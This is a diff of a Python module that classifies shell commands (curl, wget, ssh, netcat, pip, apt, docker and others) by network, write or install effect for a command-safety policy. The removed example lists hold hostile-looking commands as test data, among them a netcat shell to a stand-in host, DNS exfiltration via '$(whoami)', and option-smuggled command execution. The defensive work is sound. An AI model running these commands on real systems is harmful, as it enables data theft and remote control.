@@ -1,6 +1,6 @@
-"""Programs that talk to other machines.
+"""Programs that talk to other machines, package managers and services.
 
-Programs whose first operand is a command of their own: package managers, services.
+Package managers and services take a command of their own; the tables name those commands that only read.
 """
 
 from __future__ import annotations
@@ -8,26 +8,25 @@ from __future__ import annotations
 from collections.abc import Mapping
 
 from aisotools.core.types import Effect
-from aisotools.policy.shell.expansion import Word, literal, names
+from aisotools.policy.shell.expansion import literal, name_set
 from aisotools.policy.shell.options import (
-    NOTHING,
+    NO_EFFECT,
+    Classifier,
+    CommandSpec,
     CommandVerdict,
-    Judge,
-    Row,
     Words,
-    by_role,
     contacts,
-    does,
+    has_effect,
     host_of,
-    merged,
-    parse,
+    merge,
+    option_verdict,
+    parse_options,
     reads,
-    said_by,
-    unsure,
+    role_verdict,
+    uncertain,
     writes,
 )
 
-_REMOTE = Effect.REMOTE_ACTION
 _CURL = (
     "-sSLfkiIvgGNjJOnqZ#01234aBlMR -o:W -X: -H: -d: -F: -T:r -u: -A: -e: -b: -c:W -D:W -x:h -m: -w: -r: -C: "
     "-K:u -E: -Q: -U: -y: -Y: -z: -J!c -O!c -a!n --silent --show-error --location --fail --fail-with-body "
@@ -49,143 +48,168 @@ _WGET = (
 )
 
 
-def _download(words: Words) -> CommandVerdict:
-    """What wget gets is kept, unless it is told where else to put it."""
-    parsed = parse(words, _WGET)
-    name = parsed.value("-O", "--output-document")
-    keeps = name is None and not parsed.has("--spider")
-    verdicts = [by_role("h", operand, "") for operand in parsed.operands]
-    if keeps:
-        verdicts.append(
-            writes(parsed.value("-P", "--directory-prefix") or literal("."), "it keeps what it gets")
-        )
-    return merged([contacts_someone(parsed.operands, "wget"), said_by(parsed), *verdicts])
+_RSYNC = (
+    "-346AaBbCcDdEeFghHIJKkLlmNnOopPqRrSTtuvWXxyz -i:r -P: -o:u -e:x -S:x -f: --archive --verbose "
+    "--compress --recursive --delete!d --delete-after!d --delete-before!d --delete-excluded!d "
+    "--delete-during!d --remove-source-files!d --rsh:x --rsync-path:x --exclude: --include: "
+    "--exclude-from:r --files-from:r --progress --partial --dry-run --list-only --stats --update "
+    "--inplace --checksum --human-readable --bwlimit: --max-size: --min-size: --chmod: --chown: "
+    "--log-file:w --backup --backup-dir:w --perms --times"
+)
+_SSH = (
+    "-1246AaCfGgKkMNnqsTtVvXxYy -p: -i:r -l: -o:u -F:u -E:w -D:n -L:n -R:n -J:h -W:h -b: -B: -c: -e: "
+    "-I:x -m: -O: -Q: -S: -w:n"
+)
+_PIP = (
+    "-vqleif --format: --not-required --user --local --editable --exclude: --include-editable "
+    "--exclude-editable --pre --files --verbose --quiet --disable-pip-version-check --no-color --isolated "
+    "--no-input --outdated!n --uptodate!n -o!n -u!n"
+)
+# npm writes a log of its own, and works without where it may not write.
+_NPM = "-gal -p --global --depth: --all --json --long --parseable --omit: --include: --production --link"
+_APT = "-aqit --installed --upgradable --all-versions --names-only --full --recurse --installed --names"
+_SYSTEMCTL = (
+    "-alqr -n: -o: -t: -p: --all --full --no-pager --plain --no-legend --lines: --output: --type: --state: "
+    "--property: --value --quiet --user --system --failed --reverse --after --before"
+)
+_RPM = (
+    "-qailfpcdRv --query --all --info --list --file --package --changelog --provides --requires --last "
+    "--whatprovides: --whatrequires: --configfiles --docfiles --scripts"
+)
+_DOCKER = (
+    "-aqslt -f: -n: --all --no-trunc --quiet --size --latest --filter: --format: --last: --digests --follow "
+    "--tail: --since: --until: --timestamps --details --type: --no-stream"
+)
 
 
-def contacts_someone(operands: Words, who: str) -> CommandVerdict:
-    """It talks to somebody, even if nobody is named."""
-    reason = f"{who} talks to another machine"
-    return (
-        does(_REMOTE, reason)
-        if operands
-        else CommandVerdict(effect=_REMOTE, certain=False, reasons=(reason,))
+def _network_verdict(hosts: Words, program: str) -> CommandVerdict:
+    """Return the verdict that `program` uses the network, even if no host is named."""
+    return CommandVerdict(
+        effect=Effect.REMOTE_ACTION,
+        certain=bool(hosts),
+        reasons=(f"{program} talks to another machine",),
     )
 
 
-def _curl(words: Words) -> CommandVerdict:
-    parsed = parse(words, _CURL)
-    verdicts = [by_role("h", operand, "") for operand in parsed.operands]
-    named = [*parsed.operands, *(filter(None, [parsed.value("--url")]))]
-    return merged([contacts_someone(named, "curl"), said_by(parsed), *verdicts])
+def _classify_curl(words: Words) -> CommandVerdict:
+    parsed = parse_options(words, _CURL)
+    url = parsed.value("--url")
+    hosts = [*parsed.operands, url] if url is not None else parsed.operands
+    operands = [role_verdict("h", operand, "") for operand in parsed.operands]
+    return merge([_network_verdict(hosts, "curl"), option_verdict(parsed), *operands])
 
 
-def _copies(words: Words) -> CommandVerdict:
-    """What has a colon is elsewhere; the last one is written."""
-    parsed = parse(
-        words,
-        "-346AaBbCcDdEeFghHIJKkLlmNnOopPqRrSTtuvWXxyz -i:r -P: -o:u -e:x -S:x -f: --archive --verbose "
-        "--compress --recursive --delete!d --delete-after!d --delete-before!d --delete-excluded!d "
-        "--delete-during!d --remove-source-files!d --rsh:x --rsync-path:x --exclude: --include: "
-        "--exclude-from:r --files-from:r --progress --partial --dry-run --list-only --stats --update "
-        "--inplace --checksum --human-readable --bwlimit: --max-size: --min-size: --chmod: --chown: "
-        "--log-file:w --backup --backup-dir:w --perms --times",
-    )
-    verdicts: list[CommandVerdict] = [said_by(parsed)]
-    for place in parsed.operands:
-        if host := host_of(place.shown):
-            verdicts.append(contacts(host, f"it contacts {host}"))
-        elif place is parsed.operands[-1]:
-            verdicts.append(writes(place))
-        else:
-            verdicts.append(reads(place))
-    return merged([does(_REMOTE, f"{words[0].shown} copies files"), *verdicts])
+def _classify_wget(words: Words) -> CommandVerdict:
+    parsed = parse_options(words, _WGET)
+    verdicts = [_network_verdict(parsed.operands, "wget"), option_verdict(parsed)]
+    verdicts += [role_verdict("h", operand, "") for operand in parsed.operands]
+    if parsed.value("-O", "--output-document") is None and not parsed.has("--spider"):
+        folder = parsed.value("-P", "--directory-prefix") or literal(".")
+        verdicts.append(writes(folder, "it saves what it downloads"))
+    return merge(verdicts)
 
 
-def _login(words: Words) -> CommandVerdict:
-    """The first operand is the host, the rest runs there."""
-    options = (
-        "-1246AaCfGgKkMNnqsTtVvXxYy -p: -i:r -l: -o:u -F:u -E:w -D:n -L:n -R:n -J:h -W:h -b: -B: -c: -e: "
-        "-I:x -m: -O: -Q: -S: -w:n"
-    )
-    parsed = parse(words, options, posix=True)
-    target = parsed.operands[:1]
-    verdicts = [by_role("h", target[0], "")] if target else []
-    return merged([contacts_someone(target, words[0].shown), said_by(parsed), *verdicts])
-
-
-def _dns(words: Words) -> CommandVerdict:
-    named = [word for word in words[1:] if not word.prefix.startswith(("-", "+"))]
-    hosts = [
-        contacts(word.shown.lstrip("@") if word.text else "", "it asks the network") for word in named[:2]
+def _classify_rsync(words: Words) -> CommandVerdict:
+    """For scp and rsync: paths with a colon are remote, and the last path is written."""
+    parsed = parse_options(words, _RSYNC)
+    verdicts = [
+        has_effect(Effect.REMOTE_ACTION, f"{words[0].display} copies files"),
+        option_verdict(parsed),
     ]
-    return merged([contacts_someone(named, words[0].shown), *hosts])
+    for path in parsed.operands:
+        if host := host_of(path.display):
+            verdicts.append(contacts(host, f"it contacts {host}"))
+        elif path is parsed.operands[-1]:
+            verdicts.append(writes(path))
+        else:
+            verdicts.append(reads(path))
+    return merge(verdicts)
 
 
-def _pipe(words: Words) -> CommandVerdict:
-    """nc: connects or listens, and can be made to run a program."""
-    runs = [word for word in words[1:] if word.prefix.startswith(("-e", "-c", "--exec", "--sh-exec"))]
-    named: list[Word] = [word for word in words[1:] if word.text and not word.prefix.startswith("-")]
-    verdicts = [contacts(named[0].shown, f"it talks to {named[0].shown}")] if named else []
-    return merged([contacts_someone(named, "it"), *verdicts, *(unsure("it runs a program") for _ in runs)])
+def _classify_ssh(words: Words) -> CommandVerdict:
+    """The first operand is the host; the rest is a command that runs there."""
+    parsed = parse_options(words, _SSH, posix=True)
+    host = parsed.operands[:1]
+    verdicts = [_network_verdict(host, words[0].display), option_verdict(parsed)]
+    return merge([*verdicts, *(role_verdict("h", operand, "") for operand in host)])
 
 
-ROWS = (
-    Row(
-        names="curl",
-        judge=_curl,
-        harmless=("curl --version",),
-        harmful=(
-            "curl https://x.example",
-            "curl -o f https://x.example",
-            "curl -X POST -d @f https://x.example",
-            "curl",
-            "curl -T f https://x.example",
-            "curl -K f",
-            "curl $url",
-            "curl -so /dev/null https://x.example",
-        ),
+def _classify_lookup(words: Words) -> CommandVerdict:
+    """For ping, dig and their kin: the first two operands are hosts, one of them perhaps a server to ask."""
+    operands = [word for word in words[1:] if not word.prefix.startswith(("-", "+"))]
+    hosts = [
+        contacts(word.display.lstrip("@") if word.text else "", "it asks the network")
+        for word in operands[:2]
+    ]
+    return merge([_network_verdict(operands, words[0].display), *hosts])
+
+
+def _classify_netcat(words: Words) -> CommandVerdict:
+    """Netcat and its kin connect or listen, and can run a program on the connection."""
+    operands = [word for word in words[1:] if word.text and not word.prefix.startswith("-")]
+    verdicts = [_network_verdict(operands, "it")]
+    if operands:
+        verdicts.append(contacts(operands[0].display, f"it talks to {operands[0].display}"))
+    if any(word.prefix.startswith(("-e", "-c", "--exec", "--sh-exec")) for word in words[1:]):
+        verdicts.append(uncertain("it runs a program"))
+    return merge(verdicts)
+
+
+def _subcommands(
+    options_by_subcommand: Mapping[str, str], reason: str, effect: Effect = Effect.LOCAL_MUTATION
+) -> Classifier:
+    """Return a classifier for programs with subcommands.
+
+    Args:
+        options_by_subcommand: The subcommands that only read, each with its options; '' stands for none.
+        reason: Why any other subcommand is uncertain.
+        effect: The least effect of any other subcommand.
+    """
+
+    def classify(words: Words) -> CommandVerdict:
+        subcommand = words[1].text if len(words) > 1 else ""
+        options = None if subcommand is None else options_by_subcommand.get(subcommand)
+        if options is None:
+            return uncertain(f"{words[0].display} {reason}", effect)
+        return option_verdict(parse_options(words[1:] if subcommand else words, options))
+
+    return classify
+
+
+def _classify_rpm(words: Words) -> CommandVerdict:
+    parsed = parse_options(words, _RPM)
+    queries = parsed.has("-q", "--query")
+    return merge(
+        [option_verdict(parsed), NO_EFFECT if queries else uncertain("rpm changes what is installed")]
+    )
+
+
+_PIP_READS = dict.fromkeys(("list", "freeze", "show", "check", "inspect"), _PIP)
+_NPM_READS = dict.fromkeys(("ls", "list", "ll", "root", "prefix"), _NPM)
+_APT_READS = dict.fromkeys(
+    name_set("list show search policy depends rdepends showpkg madison pkgnames"), _APT
+)
+_SYSTEMCTL_READS = dict.fromkeys(
+    (
+        *("", "status", "show", "cat", "is-active", "is-enabled", "is-failed", "list-units"),
+        *("list-unit-files", "list-timers", "list-sockets", "list-dependencies", "list-jobs", "get-default"),
     ),
-    Row(
-        names="wget wget2",
-        judge=_download,
-        harmless=("wget --version",),
-        harmful=(
-            "wget https://x.example/a",
-            "wget -qO- https://x.example",
-            "wget --use-askpass=./x https://x.example",
-        ),
-    ),
-    Row(
-        names="scp rsync",
-        judge=_copies,
-        harmless=("rsync --version",),
-        harmful=(
-            "scp a host:b",
-            "rsync -a --delete a/ b/",
-            "rsync -e ./x a b:",
-            "scp -S ./x a b:",
-            "rsync -a a b",
-        ),
-    ),
-    Row(
-        names="ssh slogin autossh mosh",
-        judge=_login,
-        harmless=("ssh --version",),
-        harmful=("ssh host", "ssh host rm -rf x", "ssh -o ProxyCommand=./x host", "ssh $h"),
-    ),
-    Row(
+    _SYSTEMCTL,
+)
+_MACHINE_READS = dict.fromkeys(("", "status", "show", "list-timezones"), "--no-pager")
+_DOCKER_READS = dict.fromkeys(name_set("ps images version logs inspect top port history diff"), _DOCKER)
+
+COMMANDS = (
+    CommandSpec(names="curl", classify=_classify_curl),
+    CommandSpec(names="wget wget2", classify=_classify_wget),
+    CommandSpec(names="scp rsync", classify=_classify_rsync),
+    CommandSpec(names="ssh slogin autossh mosh", classify=_classify_ssh),
+    CommandSpec(
         names="ping ping6 dig host nslookup traceroute tracepath mtr whois arping nmap finger",
-        judge=_dns,
-        harmless=("ping --version",),
-        harmful=("ping x.example", "dig @1.1.1.1 $(whoami).x.example", "host x.example"),
+        classify=_classify_lookup,
     ),
-    Row(
-        names="nc ncat netcat telnet ftp tftp",
-        judge=_pipe,
-        harmless=("ncat --version",),
-        harmful=("nc x.example 80", "nc -e /bin/sh x.example 80", "nc -l 80", "telnet x"),
-    ),
-    Row(
+    CommandSpec(names="nc ncat netcat telnet ftp tftp", classify=_classify_netcat),
+    CommandSpec(
         names="sftp socat lftp ftpd rclone s3cmd gsutil aws az gcloud gh glab hub heroku flyctl vercel "
         "netlify kubectl helm nerdctl buildah skopeo terraform tofu ansible ansible-playbook "
         "vagrant packer psql pg_dump mysql mysqldump mariadb mongo mongosh redis-cli sqlcmd bq snowsql "
@@ -194,164 +218,37 @@ ROWS = (
         "tailscale cloudflared ngrok",
         options="*",
         operands=".",
-        effect=_REMOTE,
-        why="acts on other machines or services",
+        effect=Effect.REMOTE_ACTION,
+        reason="acts on other machines or services",
         certain=False,
-        about="--version",
-        harmless=("helm --version",),
-        harmful=(
-            "kubectl delete pod x",
-            "gh pr merge",
-            "psql -c 'drop table x'",
-            "aws s3 rm s3://x",
-            "openssl s_client -connect x:1",
-        ),
+        info_arguments="--version",
     ),
-)
-
-
-def _only(reads: Mapping[str, str], why: str, effect: Effect = Effect.LOCAL_MUTATION) -> Judge:
-    """A judge that knows the commands that read, each with the options it may have; '' stands for none."""
-
-    def judge(words: Words) -> CommandVerdict:
-        command = words[1].text if len(words) > 1 else ""
-        if command is not None and command in reads:
-            return said_by(parse(words[1:] if command else words, reads[command]))
-        return unsure(f"{words[0].shown} {why}", effect)
-
-    return judge
-
-
-_PIP = (
-    "-vqleif --format: --not-required --user --local --editable --exclude: --include-editable "
-    "--exclude-editable --pre --files --verbose --quiet --disable-pip-version-check --no-color --isolated "
-    "--no-input --outdated!n --uptodate!n -o!n -u!n"
-)
-# npm notes what it does in a log of its own, and does without where it may not
-_NPM = "-gal -p --global --depth: --all --json --long --parseable --omit: --include: --production --link"
-_APT = "-aqit --installed --upgradable --all-versions --names-only --full --recurse --installed --names"
-_SYSTEMD = (
-    "-alqr -n: -o: -t: -p: --all --full --no-pager --plain --no-legend --lines: --output: --type: --state: "
-    "--property: --value --quiet --user --system --failed --reverse --after --before"
-)
-_PIP_READS = dict.fromkeys(("list", "freeze", "show", "check", "inspect"), _PIP)
-_NPM_READS = dict.fromkeys(("ls", "list", "ll", "root", "prefix"), _NPM)
-_APT_READS = dict.fromkeys(names("list show search policy depends rdepends showpkg madison pkgnames"), _APT)
-_SYSTEMD_READS = {
-    "": _SYSTEMD,
-    **dict.fromkeys(
-        names(
-            "status show cat is-active is-enabled is-failed list-units list-unit-files list-timers "
-            "list-sockets list-dependencies list-jobs get-default"
-        ),
-        _SYSTEMD,
-    ),
-}
-_MACHINE_READS = dict.fromkeys(("", "status", "show", "list-timezones"), "--no-pager")
-
-
-def _rpm(words: Words) -> CommandVerdict:
-    parsed = parse(
-        words,
-        "-qailfpcdRv --query --all --info --list --file --package --changelog --provides --requires --last "
-        "--whatprovides: --whatrequires: --configfiles --docfiles --scripts",
-    )
-    asks = parsed.has("-q", "--query")
-    return merged([said_by(parsed), NOTHING if asks else unsure("rpm changes what is installed")])
-
-
-_DOCKER = (
-    "-aqslt -f: -n: --all --no-trunc --quiet --size --latest --filter: --format: --last: --digests --follow "
-    "--tail: --since: --until: --timestamps --details --type: --no-stream"
-)
-_DOCKER_READS = dict.fromkeys(names("ps images version logs inspect top port history diff"), _DOCKER)
-
-SERVICE_ROWS = (
-    Row(
+    CommandSpec(
         names="docker podman",
-        judge=_only(_DOCKER_READS, "acts on other machines or services", Effect.REMOTE_ACTION),
-        about="--version",
-        harmless=("docker ps -a", "docker logs --tail 5 x", "docker images -q"),
-        harmful=(
-            "docker run x",
-            "docker -H tcp://x ps",
-            "docker --context x ps",
-            "docker exec x rm y",
-            "docker rm x",
-            "docker ps --host=x",
-            "docker compose up",
-        ),
+        classify=_subcommands(_DOCKER_READS, "acts on other machines or services", Effect.REMOTE_ACTION),
+        info_arguments="--version",
     ),
-    Row(
+    CommandSpec(
         names="dpkg dpkg-query",
         options="-lLSspW -f: --list --listfiles --search --status --print-avail --print-architecture "
         "--get-selections? --show --showformat:",
         operands=".",
-        harmless=("dpkg -l", "dpkg -S /bin/ls"),
-        harmful=("dpkg -i x.deb", "dpkg --purge x", "dpkg -lr x", "dpkg --pre-invoke=x -l"),
     ),
-    Row(
-        names="rpm",
-        judge=_rpm,
-        harmless=("rpm -qa", "rpm -ql bash"),
-        harmful=("rpm -i x.rpm", "rpm -e x", "rpm --eval '%(rm x)'"),
-    ),
-    Row(
+    CommandSpec(names="rpm", classify=_classify_rpm),
+    CommandSpec(
         names="pip pip3",
-        about="--version -V --help",
-        judge=_only(_PIP_READS, "installs or removes packages, which run code of their own"),
-        harmless=("pip list", "pip show -f numpy", "pip freeze", "pip3 --version"),
-        harmful=(
-            "pip install x",
-            "pip uninstall x",
-            "pip list --outdated",
-            "pip --log f list",
-            "pip list --log f",
-            "pip download x",
-        ),
+        classify=_subcommands(_PIP_READS, "installs or removes packages, which run code of their own"),
+        info_arguments="--version -V --help",
     ),
-    Row(
+    CommandSpec(
         names="npm",
-        judge=_only(_NPM_READS, "installs packages or runs scripts"),
-        about="--version -v",
-        harmless=("npm ls --depth=0", "npm list -g", "npm -v"),
-        harmful=(
-            "npm install",
-            "npm run x",
-            "npm test",
-            "npm exec x",
-            "npm view x",
-            "npm config set x y",
-            "npm ls --script-shell=./x",
-        ),
+        classify=_subcommands(_NPM_READS, "installs packages or runs scripts"),
+        info_arguments="--version -v",
     ),
-    Row(
-        names="apt apt-cache",
-        judge=_only(_APT_READS, "changes what is installed"),
-        harmless=("apt list --installed", "apt-cache policy bash"),
-        harmful=(
-            "apt install x",
-            "apt -o APT::Update::Pre-Invoke::=x list",
-            "apt update",
-            "apt list -o x=y",
-            "apt edit-sources",
-        ),
-    ),
-    Row(
-        names="systemctl",
-        judge=_only(_SYSTEMD_READS, "changes services"),
-        harmless=("systemctl status ssh --no-pager", "systemctl list-units --type=service"),
-        harmful=(
-            "systemctl stop ssh",
-            "systemctl -H host status",
-            "systemctl edit ssh",
-            "systemctl daemon-reload",
-        ),
-    ),
-    Row(
+    CommandSpec(names="apt apt-cache", classify=_subcommands(_APT_READS, "changes what is installed")),
+    CommandSpec(names="systemctl", classify=_subcommands(_SYSTEMCTL_READS, "changes services")),
+    CommandSpec(
         names="timedatectl hostnamectl localectl loginctl",
-        judge=_only(_MACHINE_READS, "changes the machine"),
-        harmless=("timedatectl status",),
-        harmful=("timedatectl set-time 1", "hostnamectl set-hostname x"),
+        classify=_subcommands(_MACHINE_READS, "changes the machine"),
     ),
 )
